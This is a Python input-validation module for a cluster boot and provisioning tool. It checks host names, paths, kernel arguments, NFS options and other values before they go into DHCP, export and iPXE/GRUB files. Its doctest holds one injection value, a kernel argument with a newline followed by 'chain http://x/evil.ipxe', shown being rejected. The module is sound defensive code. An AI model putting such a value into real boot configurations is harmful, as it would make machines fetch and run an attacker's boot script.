"""Names and values as dim accepts them: names, host names, paths, kernel arguments, NFS
options, IPv4 addresses, MACs.

    >>> check_name("image", "rhel9")
    'rhel9'
    >>> check_hostname("domain", "bc.example")
    'bc.example'
    >>> check_kernel_args("kernel-args", "quiet\nchain http://x/evil.ipxe")
    Traceback (most recent call last):
    ValueError: invalid kernel-args 'quiet\nchain http://x/evil.ipxe': character '\n' is not ...
    >>> ip_to_int("10.0.0.1")
    167772161
    >>> normalize_mac("52-54-00-AB-CD-EF")
    '52:54:00:ab:cd:ef'

A leaf: the layout parser, the state DB, the image store, the renderers, the boot service and
the power drivers all check names here, and none of them needs the others to do so. Each
function raises ``ValueError`` (``OSError`` for an address); callers turn it into their own
:class:`~dim.errors.DimError` with the file, line or node it belongs to.

Every value that reaches a rendered file (DHCP, exports, hosts, boot scripts) or a command line
has a kind here, and each kind is an allow-list, not a deny-list: a value of its kind can never
end a line, open a block or start a command in any of those files. Each ``check_*`` has the
signature ``(kind, value) -> value``, where ``kind`` names the value in the message
(``"image name"``, ``"kernel-args"``), so the layout parser can hold them in one table.
"""

from __future__ import annotations

import re

# socket.py wraps this C module and builds its enums when imported (4 ms of every command that
# reads cluster.xml); inet_pton is the C module's own function either way
from _socket import AF_INET, inet_pton

SAFE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.\-]*")
MAX_NAME = 64  # names become file names (dim-<image>, <image>.ipxe) and folders
_MAC = re.compile(r"[0-9a-f]{2}([:-]?)[0-9a-f]{2}(\1[0-9a-f]{2}){4}")

# RFC 1123 host names: labels of letters, digits and '-', 1 to 63 characters, neither starting
# nor ending with '-', joined by '.'; 253 characters in all.
_LABEL = r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
HOST_NAME = re.compile(rf"{_LABEL}(?:\.{_LABEL})*")
MAX_HOST_NAME = 253
# The characters of a path component, and of one of a keep-out pattern (rsync, fnmatch globs).
_PATH_CHARS = r"[A-Za-z0-9_.+@=~-]"
_GLOB_CHARS = r"[A-Za-z0-9_.+@=~*?\[\]!-]"
MAX_PATH = 1024
MAX_SOCKET_PATH = 107  # sun_path holds 108 bytes with the final NUL
MAX_BOOT_FILE = 127  # the BOOTP file field holds 128 bytes with the final NUL
# Kernel arguments: words of this alphabet separated by spaces. Left out on purpose: quotes,
# '$' '{' '}' (iPXE and GRUB expand variables), ';' '|' '&' (GRUB and iPXE chain commands),
# '#' (comments), '*' '?' '[' ']' (GRUB globs), '\\' and everything not printable ASCII.
_KERNEL_CHARS = r"[A-Za-z0-9_.,:=/+@%~ -]"
_KERNEL_ARGS = re.compile(f"{_KERNEL_CHARS}*")
MAX_KERNEL_ARGS = 1024  # Linux takes 2048 on x86, and dim adds its own dim.* arguments
# NFS mount options: key or key=value, comma-separated (busybox mount passes them to mount(2)).
_NFS_OPTION = r"[A-Za-z0-9_-]+(?:=[A-Za-z0-9_.:+-]+)?"
_NFS_OPTIONS = re.compile(rf"(?:{_NFS_OPTION}(?:,{_NFS_OPTION})*)?")
MAX_NFS_OPTIONS = 512
_INTERFACE = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.@-]{0,14}")  # IFNAMSIZ is 16 with the NUL
BMC_ADDRESS = re.compile(r"[A-Za-z0-9_.:/\[\]@%+~=-]{1,255}")
MAX_COMMAND = 4096


def shown(value: str, limit: int = 60) -> str:
    """``repr(value)``, cut to about ``limit`` characters: an error message stays one line."""
    text = repr(value)
    tail = limit // 3  # the end often tells: '…-bmc', '…/evil.ipxe'
    return text if len(text) <= limit else f"{text[: limit - tail - 3]}...{text[-tail:]}"


def _invalid(kind: str, value: str, reason: str) -> ValueError:
    return ValueError(f"invalid {kind} {shown(value)}: {reason}")


def _first_outside(value: str, characters: str) -> str:
    """Why ``value`` is refused: its first character outside the class ``characters``."""
    allowed = re.compile(characters)
    bad = next((c for c in value if not allowed.fullmatch(c)), None)
    return f"character {bad!r} is not allowed" if bad is not None else "it is malformed"


def check_name(kind: str, value: str) -> str:
    """Refuse names that could escape a folder or break a config file."""
    if not SAFE_NAME.fullmatch(value) or ".." in value or len(value) > MAX_NAME:
        raise ValueError(
            f"invalid {kind} name {shown(value)}: use letters, digits, '-', '_' and '.', "
            f"starting with a letter or digit, without '/' or '..', {MAX_NAME} characters "
            "at most"
        )
    return value


def is_hostname(value: str) -> bool:
    """The fast test behind :func:`check_hostname`, for loops over 100,000 nodes."""
    return len(value) <= MAX_HOST_NAME and HOST_NAME.fullmatch(value) is not None


def check_hostname(kind: str, value: str) -> str:
    """An RFC 1123 host name or domain: ``s01c1b01``, ``s01c1b01-ib``, ``bc.example``."""
    if is_hostname(value):
        return value
    if len(value) > MAX_HOST_NAME:
        reason = f"longer than {MAX_HOST_NAME} characters"
    else:
        labels = value.split(".")
        label = next((x for x in labels if not re.fullmatch(_LABEL, x)), "")
        if not label:
            reason = "empty label (two dots, or a dot at either end)"
        elif len(label) > 63:
            reason = f"label {shown(label, 30)} is longer than 63 characters"
        elif not re.fullmatch(r"[A-Za-z0-9-]+", label):
            reason = _first_outside(label, "[A-Za-z0-9-]")
        else:
            reason = f"label {shown(label, 30)} starts or ends with '-'"
    raise _invalid(
        kind, value, f"{reason} (a host name is letters, digits and '-' in labels joined by '.')"
    )


def check_path(kind: str, value: str) -> str:
    """An absolute path of plain components (``/srv/dim/tftp``): no '.', '..', spaces, commas,
    quotes or control characters. A trailing '/' is dropped."""
    return _check_path(kind, value, _PATH_CHARS, MAX_PATH)


def check_socket_path(kind: str, value: str) -> str:
    """A path (:func:`check_path`) that fits in a Unix socket address."""
    return _check_path(kind, value, _PATH_CHARS, MAX_SOCKET_PATH)


def check_keepout(kind: str, value: str) -> str:
    """A path (:func:`check_path`) whose components may hold the globs ``* ? [ ] !``."""
    return _check_path(kind, value, _GLOB_CHARS, MAX_PATH)


def _check_path(kind: str, value: str, characters: str, limit: int) -> str:
    if not value.startswith("/"):
        raise _invalid(kind, value, "must be an absolute path")
    if len(value) > limit:
        raise _invalid(kind, value, f"longer than {limit} characters")
    path = value.rstrip("/") or "/"
    _check_components(kind, value, path.split("/")[1:] if path != "/" else [], characters)
    return path


def _check_components(kind: str, value: str, parts: list[str], characters: str) -> None:
    for part in parts:
        if part in ("", ".", ".."):
            raise _invalid(kind, value, "must be without '.', '..' or '//'")
        if not re.fullmatch(f"{characters}+", part):
            raise _invalid(
                kind,
                value,
                f"{_first_outside(part, characters)} (path components are letters, digits "
                "and _ . + @ = ~ -)",
            )


def check_boot_file(kind: str, value: str) -> str:
    """A boot file name sent by DHCP, relative to the TFTP root (``pxelinux.0``,
    ``efi/grubx64.efi``): path components (:func:`check_path`), 127 characters at most."""
    if not value.strip("/"):
        raise _invalid(kind, value, "a boot file name is needed")
    if len(value) > MAX_BOOT_FILE:
        raise _invalid(kind, value, f"longer than {MAX_BOOT_FILE} characters (DHCP's file field)")
    _check_components(kind, value, value.removeprefix("/").split("/"), _PATH_CHARS)
    return value


def check_interface(kind: str, value: str) -> str:
    """A network interface name: ``eth0``, ``enp1s0f0``, ``bond0.100``; 15 characters at most."""
    if not _INTERFACE.fullmatch(value) or ".." in value:
        raise _invalid(
            kind, value, "an interface name is up to 15 letters, digits, '_', '.', '@' or '-'"
        )
    return value


def check_kernel_args(kind: str, value: str) -> str:
    """Kernel arguments: ``console=ttyS0,115200n8 quiet rd.break``, one line of words."""
    if not _KERNEL_ARGS.fullmatch(value):
        raise _invalid(
            kind,
            value,
            f"{_first_outside(value, _KERNEL_CHARS)} (kernel "
            "arguments are words of letters, digits and _ . , : = / + @ % ~ - between spaces)",
        )
    if len(value) > MAX_KERNEL_ARGS:
        raise _invalid(kind, value, f"longer than {MAX_KERNEL_ARGS} characters")
    return value


def check_nfs_options(kind: str, value: str) -> str:
    """NFS mount options: ``actimeo=1,vers=4.2,nolock``; empty for none."""
    if len(value) > MAX_NFS_OPTIONS:
        raise _invalid(kind, value, f"longer than {MAX_NFS_OPTIONS} characters")
    if not _NFS_OPTIONS.fullmatch(value):
        raise _invalid(
            kind,
            value,
            "NFS options are KEY or KEY=VALUE separated by ',' (keys of letters, digits, "
            "'_' and '-'; values also with '.', ':' and '+')",
        )
    return value


def check_bmc_address(kind: str, value: str) -> str:
    """A BMC address as the power drivers take it: ``10.1.0.5``, ``bmc1:623``,
    ``https://bmc1/abc``, ``apc-pdu://10.1.0.5/12``; one word, no spaces or quotes."""
    if not BMC_ADDRESS.fullmatch(value):
        raise _invalid(
            kind, value, "one word of letters, digits and _ . : / [ ] @ % + ~ = -, 255 at most"
        )
    return value


def check_command(kind: str, value: str) -> str:
    """A shell command dim runs (``systemctl reload kea-dhcp4-server``): one line of printable
    characters."""
    if not value.strip() or not value.isprintable() or len(value) > MAX_COMMAND:
        raise _invalid(
            kind,
            value,
            f"a command is one non-empty line of printable characters, {MAX_COMMAND} at most",
        )
    return value


def ip_to_int(text: str) -> int:
    """Strict dotted quad -> integer; OSError for anything else (``010.0.0.1``, ``1.2.3``)."""
    return int.from_bytes(inet_pton(AF_INET, text), "big")


def normalize_mac(text: str) -> str:
    """``52-54-00-AB-CD-EF`` or ``525400abcdef`` -> ``52:54:00:ab:cd:ef``.

    Raises ValueError for anything else.
    """
    value = text.strip().lower()
    if not _MAC.fullmatch(value):
        raise ValueError(f"malformed MAC address {text!r} (expected e.g. 52:54:00:ab:cd:ef)")
    digits = value.replace(":", "").replace("-", "")
    return ":".join(digits[i : i + 2] for i in range(0, 12, 2))
